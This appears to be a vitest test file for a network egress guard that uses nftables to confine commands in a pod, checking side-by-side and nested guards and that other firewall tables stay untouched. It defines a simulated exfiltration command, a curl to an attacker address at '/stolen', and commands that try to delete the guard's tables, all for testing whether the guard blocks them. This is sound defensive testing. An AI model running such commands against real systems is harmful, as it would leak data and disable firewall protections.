/** Guards beside one another and within one another, processes that nobody guards, and other people's tables. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER } from "../../support/internet/addresses.ts";
import type { Machine } from "../../support/internet/internet.ts";
import { type AttackScene, createAttackScene, findObstacle } from "./support/attack-scene.ts";
import {
  guardTablesOf,
  type StandingGuard,
  startGuard,
  waitUntil,
} from "./support/guard-in-pod.ts";
import { toGuardedPod, toPolicy } from "./support/guarded-pod.ts";

const obstacle = findObstacle();
/** A guard within a guard takes the right that its own command is to be without. */
const GITHUB = toPolicy({ allow: ["github.test"], "network-admin": "keep" });
const EVIL = toPolicy({ allow: ["evil.test"] });
const STEAL = `curl -4 -sS -m 2 http://${ATTACKER.ipv4}/stolen`;

/** As Docker, kube-proxy, Istio, ufw and firewalld write them: their hooks, priorities, marks and sets. */
const OTHERS = `
table ip nat {
  chain DOCKER { iifname "docker0" return; tcp dport 8080 dnat to 172.17.0.2:80; }
  chain PREROUTING { type nat hook prerouting priority -100; fib daddr type local jump DOCKER; }
  chain OUTPUT { type nat hook output priority -100; ip daddr != 127.0.0.0/8 fib daddr type local jump DOCKER; }
  chain POSTROUTING { type nat hook postrouting priority 100; ip saddr 172.17.0.0/16 oifname != "docker0" masquerade; }
}
table ip kube-proxy {
  map service-ips { type ipv4_addr . inet_proto . inet_service : verdict; }
  chain mark-for-masquerade { meta mark set meta mark or 0x4000; }
  chain services { ip daddr . meta l4proto . th dport vmap @service-ips; }
  chain nat-output { type nat hook output priority -100; jump services; }
  chain nat-postrouting { type nat hook postrouting priority 100; meta mark & 0x4000 == 0x4000 masquerade; }
}
table ip istio {
  chain ISTIO_OUTPUT { meta skuid 1337 return; ip daddr 127.0.0.1 return; tcp dport 15001 return; }
  chain OUTPUT { type nat hook output priority -100; meta l4proto tcp jump ISTIO_OUTPUT; }
  chain mangle { type route hook output priority -150; ct mark 0x539 meta mark set ct mark; }
}
table inet firewalld {
  set blocked { type ipv4_addr; flags interval; elements = { 192.0.2.0/24 }; }
  chain filter_OUTPUT { type filter hook output priority 10; oifname "lo" accept; ip daddr @blocked reject with icmpx admin-prohibited; }
  chain filter_INPUT { type filter hook input priority 10; ct state established,related accept; iifname "lo" accept; }
}
`.replaceAll(/[{;}](?!.*elements)/g, "$&\n");

const get = (pod: Machine, name: string): string =>
  `curl -4 -sS -m 2 --cacert ${pod.caFile} https://${name}.test/ 2>&1`;

describe.skipIf(obstacle !== "")(`side by side${obstacle}`, () => {
  let scene: AttackScene;
  beforeAll(async () => {
    scene = await createAttackScene();
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test("two guards hold their own commands to their own policies, and end on their own", async () => {
    const pod = await scene.internet.pod();
    const [first, second] = await Promise.all([
      startGuard(pod, { policy: GITHUB, name: "first" }),
      startGuard(pod, { policy: EVIL, name: "second" }),
    ]);
    expect(await guardTablesOf(pod)).toEqual(["runner_guard", "runner_guard_2"]);
    const ask = `${get(pod, "github")}; ${get(pod, "evil")}; ${STEAL} 2>&1`;
    const tell = async (guard: StandingGuard): Promise<string> =>
      (await guard.inside(ask)).replaceAll(/after \d+ ms/g, "after some ms");
    const said = await Promise.all([tell(first), tell(second)]);
    expect(said[0]).toMatch(/^github.test GET \/\ncurl: \(6\).*evil.test\ncurl: \(7\).*\n$/);
    expect(said[1]).toMatch(/^curl: \(6\).*github.test\nevil.test GET \/\ncurl: \(7\).*\n$/);

    await first.inside("nft delete table inet runner_guard; nft delete table inet runner_guard_2");
    await waitUntil("both tables", async () => (await guardTablesOf(pod)).length === 2);
    expect(await tell(second)).toBe(said[1]);
    first.finish();
    expect(await first.ended).toEqual({ status: 0, signal: null });
    expect(await tell(second)).toBe(said[1]);
    expect(await guardTablesOf(pod)).toHaveLength(1);
    second.finish();
    expect(await second.ended).toEqual({ status: 0, signal: null });
    expect(await guardTablesOf(pod)).toEqual([]);
  });

  test("what is not the command's is not touched", async () => {
    const pod = await scene.internet.pod();
    const guard = await startGuard(pod, { policy: GITHUB });
    const free = await pod.run([
      "sh",
      "-c",
      `${STEAL}; curl -6 -sS -m 2 http://[${ATTACKER.ipv6}]/; ${get(pod, "evil")}; dig +short +tries=1 @1.1.1.1 other.evil.test; ping -c1 -W1 ${ATTACKER.ipv4} >/dev/null && echo pong`,
    ]);
    expect(free.stdout).toMatch(
      /^attacker GET \/stolen\nattacker GET \/\nevil.test GET \/\n[\s\S]*pong\n$/,
    );
    expect(await guard.inside(STEAL)).toContain("curl: (7)");
    guard.finish();
    await guard.ended;
  });

  test("a guard within a guard can only be stricter", async () => {
    const { internet } = scene;
    const pod = toGuardedPod(internet, await internet.pod());
    const inner = toPolicy({ allow: ["github.test", "evil.test", "*:*", "*/icmp"] });
    const run = await pod.guarded(
      [
        `printf %s '${inner}' >inner.yml`,
        `"$OUTER_GUARD" run --quiet --policy inner.yml --report inner.json -- sh -c '${get(pod, "github")}; ${get(pod, "evil")}; ${STEAL} 2>&1'`,
        "echo ended with $?",
      ].join("\n"),
      {
        policy: GITHUB,
        env: { OUTER_GUARD: `${import.meta.dirname}/../../../bin/runner-guard` },
      },
    );

    expect(run.stdout).toMatch(
      /^github.test GET \/\ncurl: \(6\).*evil.test\ncurl: \(7\).*\nended with 7\n$/,
    );
    expect([...new Set(run.escaped.map(({ destination }) => destination.ip))]).toEqual([
      "198.51.100.10",
    ]);
    expect(run.report.mode.effective).toBe("block");
  });

  test("other tables stay what they are, byte for byte", async () => {
    const { internet } = scene;
    const pod = toGuardedPod(internet, await internet.pod());
    const loaded = await pod.run(["nft", "-f", "-"], { input: OTHERS });
    expect(loaded.stderr).toBe("");
    const list = async (): Promise<string> => (await pod.run(["nft", "list", "ruleset"])).stdout;
    const before = await list();
    const run = await pod.guarded(
      `${get(pod, "github")}; ${STEAL}; curl -sS -m 2 http://192.0.2.7/; nft delete table inet runner_guard; for t in 'ip nat' 'ip kube-proxy' 'ip istio' 'inet firewalld'; do nft list table $t; done >during`,
      { policy: GITHUB },
    );

    expect(run.stdout).toBe("github.test GET /\n");
    expect(run.stderr.match(/curl: \(7\)/g)).toHaveLength(2);
    expect(await list()).toBe(before);
    expect((await pod.run(["cat", "during"])).stdout).toBe(before);
  });
});
